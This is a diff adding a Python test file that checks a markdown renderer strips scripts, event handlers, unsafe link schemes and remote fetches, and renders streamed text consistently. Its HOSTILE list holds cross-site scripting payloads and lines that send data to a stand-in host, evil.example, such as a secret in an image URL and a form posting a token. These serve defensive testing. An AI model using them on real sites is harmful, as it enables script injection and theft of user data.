@@ -1,0 +1,128 @@
+"""Markdown in which nothing runs and nothing is fetched, whole and while it is written."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+from lxml import html
+
+from satchel.server.pages.markdown import MarkdownBlocks, markdown
+from tests.requirements import requirement
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:x)",
+    "[x](/logout)",
+    "[x](//evil.example)",
+    "[x](\\\\evil.example)",
+    '<https://ok.example/"onmouseover="alert(1)>',
+    '[x](https://ok.example "t\\" onclick=\\"alert(1)")',
+    "<svg onload=alert(1)>",
+    "<style>body{display:none}</style>",
+    "<iframe src=https://evil.example>",
+    "<form action=https://evil.example><input name=token></form>",
+    "<a href=x ping=https://evil.example>x</a>",
+    '```"><script>alert(1)</script>\nx\n```',
+    "~~~<img/src=x onerror=alert(1)>\n~~~",
+    "`<script>`",
+    "| <script> |\n|---|\n| <img src=x> |",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "# <b onclick=x>x</b>",
+    "\x00<script>\x00",
+    "\ud800<script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+ALLOWED = {
+    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
+    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+}  # fmt: skip
+ATTRIBUTES = {"href", "title", "rel", "target", "tabindex", "class", "start", "data-lang"}
+
+
+def assert_harmless(text: str) -> None:
+    for element in html.fragment_fromstring(text, create_parent="main").iterdescendants():
+        assert element.tag in ALLOWED, text
+        assert set(element.attrib) <= ATTRIBUTES, text
+        href = element.get("href")
+        assert href is None or href.lower().startswith(("http://", "https://", "mailto:")), text
+        assert element.get("class") in (None, "scroll"), text
+        if element.tag == "a":
+            assert element.get("rel") == "noopener noreferrer nofollow"
+
+
+@requirement("web-pages:markdown")
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_in_markdown_runs_or_is_fetched(text: str) -> None:
+    assert_harmless(markdown(text))
+    assert_harmless(markdown(f"> - {text}"))
+
+
+@requirement("web-pages:markdown")
+@given(
+    st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "*", "`", "<", ">", '"', "&#x6a;"])).map(
+        "".join
+    )
+)
+def test_hostile_pieces_in_any_order_stay_harmless(text: str) -> None:
+    assert_harmless(markdown(text))
+
+
+@requirement("web-pages:markdown")
+def test_markdown_is_what_it_says() -> None:
+    text = "# Title\n\nA **bold** ~~old~~ [link](https://ok.example).\n\n```rust\nlet x = 1 < 2;\n```\n\n|a|\n|-|\n|1|\n"
+    page = html.fragment_fromstring(markdown(text), create_parent="main")
+    assert [element.tag for element in page] == ["h3", "p", "pre", "div"]
+    assert page[2].get("data-lang") == "rust"
+    assert page[2].text_content() == "let x = 1 < 2;\n"
+    assert page.xpath("./p/a/@href") == ["https://ok.example"]
+    assert markdown("![a cat](https://ok.example/cat.png)").count("<a ") == 1
+
+
+@requirement("web-pages:markdown")
+def test_a_text_that_is_too_long_to_parse_is_shown_as_it_is() -> None:
+    shown = markdown("# <b>\n" * 100_000)
+    assert shown.startswith('<pre tabindex="0"><code># &lt;b&gt;')
+    assert_harmless(shown)
+
+
+_PIECES = [
+    "# a\n", "x", "\n", "\n\n", "- a\n", "  b\n", "```\n", "```", "code\n", "> q\n", "| a | b |\n", "|---|---|\n",
+    "| 1 | 2 |\n", "1. x\n", "    ind\n", "---\n", "***", "**b**", "`c`", "text ", "\t", "===\n", "[l](http://x.y)",
+    "\x0b", "\u2028", "\x0c", "\r", "\r\n",
+]  # fmt: skip
+
+
+@requirement("web-pages:markdown")
+@given(st.lists(st.sampled_from(_PIECES), max_size=25), st.lists(st.integers(1, 6), min_size=1))
+@example(["a", "\r", "\n", "\n", "b"], [1])
+@example([], [1])
+def test_a_text_that_comes_in_pieces_is_shown_as_the_whole_is(pieces: list[str], sizes: list[int]) -> None:
+    text, blocks, shown = "".join(pieces), MarkdownBlocks(), list[str]()
+    at = turn = 0
+    while at < len(text):
+        size = sizes[turn % len(sizes)]
+        changed, count = blocks.feed(text[at : at + size])
+        at, turn = at + size, turn + 1
+        del shown[count:]
+        for place, block in changed:
+            shown[place:] = [str(block), *shown[place + 1 :]]
+    whole = str(markdown(text))
+    assert "".join(shown).replace("\n", "") == whole.replace("\n", "")
+
+
+@requirement("web-pages:markdown")
+def test_what_is_settled_is_not_read_again() -> None:
+    blocks = MarkdownBlocks()
+    blocks.feed("word " * 1000 + "\n\nnext\n\n")
+    assert blocks.open_chars < 10
+    changed, count = blocks.feed("more")
+    assert [place for place, _ in changed] == [1, 2]
+    assert count == 3
